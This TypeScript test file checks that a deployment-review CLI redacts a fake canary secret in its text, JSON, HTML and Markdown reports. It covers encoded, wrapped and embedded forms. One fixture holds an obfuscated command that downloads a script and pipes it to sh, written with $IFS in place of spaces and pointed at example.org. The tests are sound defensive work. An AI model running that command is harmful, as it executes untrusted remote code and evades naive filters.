/** A made-up secret in every place where a value can hide appears in no format. */
import { scrubByLooks } from "../../../cli/commands/review/model/looks";
import { htmlPieces } from "../../../cli/commands/review/render/html";
import { jsonPieces } from "../../../cli/commands/review/render/json";
import { renderMarkdown } from "../../../cli/commands/review/render/markdown";
import { hosts, profiles } from "../../../cli/commands/review/render/profiles";
import { textPieces } from "../../../cli/commands/review/render/text";
import { diagnostic, ending, policy, reportOf, secret, step, urnOf, whole } from "./events";

const canary = "CANARY-made-up/7f3a=value+9c";
const inBase64 = Buffer.from(canary).toString("base64");

async function formatsOf(events: object[]): Promise<string> {
  const report = await reportOf([...events, ...ending()]);
  const comments = hosts.flatMap((host) => [
    renderMarkdown(report, { profile: profiles[host], key: "k" }),
    renderMarkdown(report, { profile: profiles[host], key: "k", limit: 1_200 }),
  ]);
  return [whole(textPieces(report)), whole(jsonPieces(report)), whole(htmlPieces(report)), ...comments].join("\n");
}

/** In clear, in pieces long enough to be of use, and as it stands in JSON, URLs, HTML and base64. */
function expectHidden(text: string): void {
  for (const form of [
    canary,
    canary.slice(0, 14),
    canary.slice(-14),
    encodeURIComponent(canary),
    encodeURI(canary),
    inBase64,
    "7f3a",
  ]) {
    expect(text.split(form).length - 1).toBe(0);
  }
}

const marked = secret(canary);
const secretOf = (value: unknown) => ({ ...secret(""), plaintext: JSON.stringify(value) });
/** Where the secret is marked, so that the places that hold it in clear can be found out. */
const teller = step("same", { name: "teller", old: { a: marked }, new: { a: marked } });
const rpc = `RegisterResource RPC finished: resp: urn,,4dabf18193072939515e22adb298388d,,,1b47061264138c4ac30d75fd1eb44270,value,,,${canary},private,,,,true`;
const json = `resp: {"x":{"4dabf18193072939515e22adb298388d":"1b47061264138c4ac30d75fd1eb44270","value":${JSON.stringify(canary)}}}`;
const printed = `{ '4dabf18193072939515e22adb298388d': '1b47061264138c4ac30d75fd1eb44270', value: '${canary}' }`;

const places: Record<string, object[]> = {
  "marked inputs": [step("update", { old: { a: secret("other-made-up"), list: [1] }, new: { a: marked, list: [marked] } })],
  "marked outputs": [
    step("update", {
      old: { n: 1 },
      new: { n: 2 },
      oldOutputs: { o: marked },
      detailedDiff: { n: { diffKind: "update", inputDiff: true }, o: { diffKind: "update", inputDiff: false } },
    }),
  ],
  "marked deep inside a created one": [
    step("create", { new: { steps: [{ module: "m", name: "n", properties: { deep: { er: marked } } }] } }),
  ],
  "marked in a deleted one": [step("delete", { old: { parameters: { k: { default: marked } } } })],
  "an output value with its own mark": [
    step("create", {
      new: { a: { "4dabf18193072939515e22adb298388d": "d0e6a833031e9bbcd3f4e8bde6ca49a4", secret: true, value: canary } },
    }),
  ],
  "a mark of a form that nobody knows": [
    step("create", { new: { a: { "4dabf18193072939515e22adb298388d": "ffffffffffffffffffffffffffffffff", value: canary } } }),
  ],
  "an unmarked input elsewhere": [step("update", { old: { url: "u" }, new: { url: `https://h/?k=${canary}` } }), teller],
  "a command that carries it": [
    step("update", { old: { command: "a\nb" }, new: { command: `a\ncurl -H "${canary}"\nb` } }),
    teller,
  ],
  "URL encoded and in base64": [
    step("create", { new: { u: `x?${encodeURIComponent(canary)}`, b: `Basic ${inBase64}` } }),
    teller,
  ],
  "a name": [step("create", { name: `x-${canary}`, new: { name: canary } }), teller],
  "a key of a map": [step("update", { old: {}, new: { tags: { [canary]: "1" } } }), teller],
  "an error": [diagnostic("error", `create failed: ${canary} was refused`, urnOf("api")), teller],
  "an error in JSON": [diagnostic("error", `body {"password":${JSON.stringify(canary)}}`), teller],
  "a warning": [diagnostic("warning", `deprecated ${canary}`), teller],
  "a policy's message": [policy("mandatory", `No secrets.\nx: found ${canary}`), teller],
  "a remediation": [
    {
      policyRemediationEvent: {
        resourceUrn: urnOf("api"),
        policyName: "p",
        policyPackName: "k",
        policyPackVersion: "1",
        before: { a: canary },
        after: { a: marked },
      },
    },
  ],
  "debug diagnostics alone": [diagnostic("debug", rpc), diagnostic("debug", `value ${canary}`)],
  "an error, known from a debug message of the protocol": [diagnostic("debug", rpc), diagnostic("error", `no: ${canary}`)],
  "an error, known from a debug message in JSON": [diagnostic("debug", json), diagnostic("error", `no: ${canary}`)],
  "an error, known from a debug message in JavaScript": [diagnostic("error", `no: ${canary}`), diagnostic("debug", printed)],
  "program output": [diagnostic("info", canary), diagnostic("info#err", canary), { stdoutEvent: { message: canary } }],
  configuration: [{ preludeEvent: { config: { "a:b": canary } } }],
  "a property named as a secret": [
    step("update", {
      old: { password: "before-made-up" },
      new: {
        password: canary,
        apiToken: canary,
        parameters: { token: { default: canary }, deploy: { default: canary, private: true } },
      },
    }),
  ],
  "an error, behind a user's name in base64": [
    ...["u:", "me:", "bot:", ""].map((user) =>
      diagnostic("error", `Basic ${Buffer.from(`${user}${canary}`).toString("base64")} refused`),
    ),
    diagnostic("error", `Basic ${Buffer.from(`admin:${canary}:x`).toString("base64url")} refused`),
    teller,
  ],
  "an error, in hexadecimal digits": [diagnostic("error", `key ${Buffer.from(canary).toString("hex")} is unknown`), teller],
  "an error, with small letters in its percent signs": [
    diagnostic("error", `GET /x?k=${encodeURIComponent(canary).replace(/%../g, (code) => code.toLowerCase())}`),
    teller,
  ],
  "an error, as JSON in JSON": [diagnostic("error", JSON.stringify({ body: JSON.stringify({ a: canary }) })), teller],
  "a copy of a secret object": [
    step("same", { name: "teller", old: {}, new: { a: secretOf({ deep: [{ er: canary }], pin: 74_113_902 }) } }),
    step("create", { name: "copy", new: { b: { deep: [{ er: canary }] } } }),
  ],
  "a Bearer header that nobody marked": [
    step("update", { old: { a: "x" }, new: { a: `curl -H "Authorization: Bearer ${canary}" https://example.org` } }),
  ],
  "a password of a database command that nobody marked": [
    step("update", { old: { a: "x" }, new: { a: `mysql -h db.example.org -u root -p${canary} -e "select 1"` } }),
    diagnostic("error", `mysql -h db.example.org -u root -p${canary} failed`),
  ],
  "a list of variables that nobody marked": [
    step("create", {
      new: {
        env: [
          { name: "DB_PASSWORD", value: canary },
          { key: "API_TOKEN", value: canary },
        ],
      },
    }),
    diagnostic("error", `env: [{ name: "DB_PASSWORD", value: "${canary}" }]`),
  ],
  "a list of headers, and a header alone": [
    step("create", { new: { headers: [{ name: "Authorization", value: `Bearer ${canary}` }] } }),
    step("update", { name: "b", old: { headers: { Cookie: "a" } }, new: { headers: { Cookie: canary } } }),
  ],
  "a list of variables as clouds write it": [
    step("create", {
      new: { env: [{ Name: "API_TOKEN", Value: canary }], tags: [{ ParameterKey: "DbPassword", ParameterValue: canary }] },
    }),
  ],
  "options of a command that goes on in the next line": [
    step("update", { old: { a: "x\ny" }, new: { a: `x\nmysql -h db.example.org \\\n  -p${canary} -e 1\ny` } }),
    step("update", {
      name: "b",
      old: { a: "x\ny" },
      new: { a: `x\ndocker login -u robot \\\n  -p ${canary} swr.example.org\ny` },
    }),
    step("update", { name: "c", old: { a: "x\ny" }, new: { a: `x\n<password>\n  ${canary}\n</password>\ny` } }),
  ],
  "an assignment in a script": [
    step("update", { old: { a: "x\ny" }, new: { a: `x\nexport DB_PASSWORD='${canary}'\nexport MY_TOKEN=${canary}\ny` } }),
  ],
  "an address of a database driver": [
    diagnostic("error", `dial user:${canary.replaceAll("/", "-")}@tcp(10.0.0.1:3306)/db failed`),
  ],
  "what a kind of ours keeps secret": [
    step("create", { name: "n", type: "pulumi-nodejs:dynamic/codearts:Notice", new: { webhook: canary, signingKey: canary } }),
    step("create", { name: "k", type: "pulumi-nodejs:dynamic/codearts:Keystore", new: { content: canary } }),
    step("create", { new: { stepSecrets: { Upload: { p: canary } } } }),
  ],
  "an error, known from a property named as a secret": [
    step("same", { old: {}, new: { dbPassword: canary } }),
    diagnostic("error", `no: ${canary}`),
  ],
  "credentials in an address": [
    step("update", { old: { url: "a" }, new: { url: `https://user:${encodeURIComponent(canary)}@example.com/x.git` } }),
  ],
  "an event nobody knows": [{ futureEvent: { value: canary } }],
  "a failed operation": [
    step("create", { new: { a: marked } }, "resOpFailedEvent"),
    diagnostic("error", `failed with ${canary}`, urnOf("api")),
  ],
};

test.each(Object.entries(places))("%s", async (_place, events) => {
  expectHidden(await formatsOf(events));
});

test("a secret of one log is hidden in every other log of the same review", async () => {
  const report = await reportOf([step("update", { old: { a: "" }, new: { a: canary } }), ...ending()], [teller, ...ending()]);
  expectHidden(whole(jsonPieces(report)));
});

test("a secret of several lines is hidden line by line, and where a long value is shortened", async () => {
  const lines = ["made-up-first-line-0001", "made-up-second-line-0002", "made-up-third-line-0003"];
  const events = [
    step("same", { name: "t", old: { a: secret(lines.join("\n")) }, new: { a: secret(lines.join("\n")) } }),
    step("update", { old: { text: "x" }, new: { text: `x\n  ${lines[1]}\n` } }),
    ...[3_980, 3_990, 3_999].map((at, index) =>
      step("create", { name: `c${index}`, new: { a: `${"y".repeat(at)}${lines[0]}` } }),
    ),
    diagnostic("error", `${"z".repeat(5_990)}${lines[2]}`),
  ];
  const text = await formatsOf(events);
  for (const line of lines) for (const part of [line, line.slice(0, 10)]) expect(text).not.toContain(part);
});

test("an unmarked private key is hidden line by line, also where its first line is not shown", async () => {
  const lines = Array.from({ length: 12 }, (_, index) =>
    Buffer.from(`made up ${index}, no key at all, ${"x".repeat(20)}`).toString("base64"),
  );
  const key = ["-----BEGIN RSA PRIVATE KEY-----", ...lines, "-----END RSA PRIVATE KEY-----"];
  const other = key.with(6, Buffer.from(`another line, no key at all, ${"y".repeat(20)}`).toString("base64"));
  const job = (command: string) => ({ steps: [{ module: "m", name: "Build", properties: { command } }] });
  const script = (of: readonly string[]) => job(`cat > key <<EOF\n  ${of.join("\n  ")}\nEOF\nssh -i key example.org`);
  for (const [old, next] of [
    [job("true\nfalse"), script(key)],
    [script(key), script(other)],
    [{ list: ["x"] }, { list: ["x", ...key] }],
    [{ body: "x" }, { body: JSON.stringify({ key: key.join("\n") }) }],
  ] as const) {
    const text = await formatsOf([step("update", { old, new: next })]);
    for (const line of [...lines, other[6] ?? ""]) expect(text).not.toContain(line.slice(0, 24));
    expect(text).toContain("[secret]");
  }
});

test("an unmarked value that looks like a key is hidden", async () => {
  const key = ["ghp", "0madeup1madeup2madeup3madeup4madeup5"].join("_");
  const text = await formatsOf([
    step("create", { new: { parameters: { zone: { default: key } } } }),
    diagnostic("error", `clone with ${key} failed`),
  ]);
  expect(text).not.toContain(key.slice(4, 20));
});

test("a secret is hidden as other languages write it: in addresses with any spelling of spaces and signs, in HTML, in Go's JSON", async () => {
  const value = "made up/secret+(7f3a)'<&>\"~";
  const tell = step("same", { name: "teller", old: {}, new: { a: secret(value) } });
  for (const form of [
    "made+up%2fsecret%2b(7f3a)%27%3c%26%3e%22~",
    "made%20up%2Fsecret%2B%287f3a%29%27%3C%26%3E%22~",
    "made+up%2Fsecret%2B%287f3a%29%27%3C%26%3E%22%7E",
    "made up/secret+(7f3a)&#39;&lt;&amp;&gt;&#34;~",
    "made up/secret+(7f3a)&#x27;&lt;&amp;&gt;&quot;~",
    "made up/secret+(7f3a)'\\u003c\\u0026\\u003e\\\"~",
  ])
    expect([form, (await formatsOf([tell, diagnostic("error", `refused: ${form}`)])).includes("7f3a")]).toEqual([form, false]);
});

test("what a shell runs behind a telling name stays in sight, and so does a reference", async () => {
  const code = "curl$IFS-s$IFS" + "https://example.org/x|sh";
  const report = await reportOf([
    step("update", {
      old: { a: "x\ny" },
      new: { a: `x\nexport DB_PASSWORD=made-up-value&&${code}\nexport API_TOKEN=$OTHER_TOKEN\nTOKEN=$(${code})\ny` },
    }),
    ...ending(),
  ]);
  const text = whole(textPieces(report));
  expect(text.split(code)).toHaveLength(3);
  expect(text).toContain("API_TOKEN=$OTHER_TOKEN");
  expect(text).not.toContain("made-up-value");
});

test("the mark stays readable: [secret] is there where the value was", async () => {
  const text = await formatsOf([step("update", { old: { a: secret("one-made-up") }, new: { a: marked } })]);
  expect(text).toContain("[secret]");
  expect(text).toMatch(/a: \[secret\] changed/);
});

test("a copy of a secret number is struck out like text", async () => {
  const tell = step("same", { name: "teller", old: {}, new: { a: secretOf(74_113_902) } });
  const copy = step("update", { old: { port: 1 }, new: { port: 74_113_902 } });
  expect(await formatsOf([tell, copy, diagnostic("error", "pin 74113902 refused")])).not.toContain("74113902");
});

test("text without a secret is unchanged", async () => {
  const texts = [
    "mvn -B package && docker push registry.example.org/team/app:1.2.3",
    "https://example.org/a/b?c=d#e",
    "tokenUrl=https://example.org",
  ];
  const report = await reportOf([step("create", { new: { texts } }), ...ending()]);
  for (const text of texts) expect(whole(textPieces(report))).toContain(text);
});

test.each(['password="', "password='", "token: "])("megabytes after %s are hidden", (start) => {
  expect(scrubByLooks(start + "\\".repeat(10_000_000))).toBe(`${start}[secret]`);
});

test("a secret in capitals, in small letters or over several lines of an error text", async () => {
  const wrappedAt = (width: number, margin: string): string => canary.match(new RegExp(`.{1,${width}}`, "g"))?.join(margin) ?? "";
  const messages = [
    `HEADER ${canary.toUpperCase()} REFUSED`,
    `header ${canary.toLowerCase()} refused`,
    `refused:\n    ${wrappedAt(10, "\n    ")}\n  try again`,
    `refused: ${wrappedAt(9, "\r\n")} again`,
    `refused: ${wrappedAt(12, " \\\n")} again`,
    `| refused ${wrappedAt(12, "\n| ")}\n| again`,
    `Basic ${Buffer.from(`user:${canary}`).toString("base64").replace(/.{20}/g, "$&\n")}`,
  ];
  for (const message of messages) {
    const text = await formatsOf([teller, diagnostic("error", message, urnOf("api"))]);
    expectHidden(text);
    for (const part of ["7F3A", "VALUE+9C", "+9c", "CANARY", "canary-m", "made-up", "MADE-UP", "Q0FOQVJZ", "ALUE"])
      expect([message, part, text.includes(part)]).toEqual([message, part, false]);
    expect(text).toMatch(/refused|REFUSED|Basic/);
  }
});
